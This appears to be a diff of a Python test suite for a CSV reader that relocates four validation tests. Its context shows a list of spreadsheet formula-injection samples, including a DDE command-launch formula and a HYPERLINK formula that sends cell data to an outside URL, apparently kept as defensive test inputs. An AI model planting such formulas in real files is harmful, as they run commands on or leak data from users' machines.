@@ -410,36 +410,6 @@ def test_columns_that_differ_from_those_of_training_are_named(tmp_path, training
     )
 
 
-def test_a_row_without_a_label_is_named(tmp_path):
-    columns = Schema.of(pd.DataFrame({"a": [1, 2]}))[0].columns
-    path = stored(tmp_path, "id,a\nx,1\n,2\n")
-    assert "line 3: column 'id', the label of the row, is empty" in refusal(
-        lambda: like(read_cells(path), columns, id="id")
-    )
-
-
-def test_a_feature_may_be_the_label_of_rows_too(tmp_path):
-    columns = Schema.of(pd.DataFrame({"a": [1, 2]}))[0].columns
-    rows = like(read_cells(stored(tmp_path, "a\n5\n6\n")), columns, id="a")
-    assert rows["a"].tolist() == [5, 6]
-    assert rows.index.tolist() == ["5", "6"]
-
-
-def test_a_whole_number_that_a_float_cannot_hold_is_refused(tmp_path):
-    path = tmp_path / "large.csv"
-    path.write_text("n\n9007199254740993\n")
-    schema, _ = Schema.of(pd.DataFrame({"n": [0, 1]}))
-    with pytest.raises(FileError, match="line 2: column 'n' holds 9007199254740993, an integer that a float cannot"):
-        tablefiles.like(tablefiles.read_cells(path), schema.columns)
-
-
-def test_semicolons_and_decimal_commas_are_seen(tmp_path):
-    path = tmp_path / "de.csv"
-    path.write_text('a;b;"c, d"\n1,5;2,5;3\n')
-    with pytest.raises(FileError, match="de.csv holds more semicolons than commas in its header"):
-        read(path)
-
-
 FORMULAS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.org?"&A1)',
@@ -518,3 +488,33 @@ def test_a_pipe_with_a_name_is_read_once(tmp_path):
     writer.start()
     assert read(tmp_path / "p.csv")["a"].tolist() == [1]
     writer.join(timeout=5)
+
+
+def test_a_row_without_a_label_is_named(tmp_path):
+    columns = Schema.of(pd.DataFrame({"a": [1, 2]}))[0].columns
+    path = stored(tmp_path, "id,a\nx,1\n,2\n")
+    assert "line 3: column 'id', the label of the row, is empty" in refusal(
+        lambda: like(read_cells(path), columns, id="id")
+    )
+
+
+def test_a_feature_may_be_the_label_of_rows_too(tmp_path):
+    columns = Schema.of(pd.DataFrame({"a": [1, 2]}))[0].columns
+    rows = like(read_cells(stored(tmp_path, "a\n5\n6\n")), columns, id="a")
+    assert rows["a"].tolist() == [5, 6]
+    assert rows.index.tolist() == ["5", "6"]
+
+
+def test_a_whole_number_that_a_float_cannot_hold_is_refused(tmp_path):
+    path = tmp_path / "large.csv"
+    path.write_text("n\n9007199254740993\n")
+    schema, _ = Schema.of(pd.DataFrame({"n": [0, 1]}))
+    with pytest.raises(FileError, match="line 2: column 'n' holds 9007199254740993, an integer that a float cannot"):
+        tablefiles.like(tablefiles.read_cells(path), schema.columns)
+
+
+def test_semicolons_and_decimal_commas_are_seen(tmp_path):
+    path = tmp_path / "de.csv"
+    path.write_text('a;b;"c, d"\n1,5;2,5;3\n')
+    with pytest.raises(FileError, match="de.csv holds more semicolons than commas in its header"):
+        read(path)
